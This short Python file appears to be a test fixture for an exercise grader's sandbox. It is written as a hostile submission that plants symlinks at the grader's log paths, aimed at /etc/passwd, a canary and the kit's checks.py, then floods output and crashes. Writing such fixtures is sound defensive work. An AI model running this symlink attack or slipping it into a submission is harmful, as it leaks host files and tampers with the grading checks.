
# Plant symlinks where the grader used to write (and read back) the worker's log, aimed at a host
# file and at a kit module; print a lot; then crash, so that the grader reads the log back.
import os as _os

_targets = ["@@CANARY@@", "@@KIT@@/blitz/exercises/autograd/checks.py", "/etc/passwd"]
_here = _os.path.dirname(_os.path.abspath(__file__))
for _folder in (_os.getcwd(), _os.path.expanduser("~"), _here, _os.path.dirname(_here), "/tmp"):
    for _i, _name in enumerate(["output-1.txt", "output-2.txt", "output-3.txt", "log.txt", "log"]):
        try:
            _os.symlink(_targets[_i % len(_targets)], _os.path.join(_folder, _name))
        except OSError:
            pass
print("@@MARKER@@-PWNED " * 2000, flush=True)


def sgd_step(params, lr):
    print("@@MARKER@@-last-words", flush=True)
    _os._exit(3)
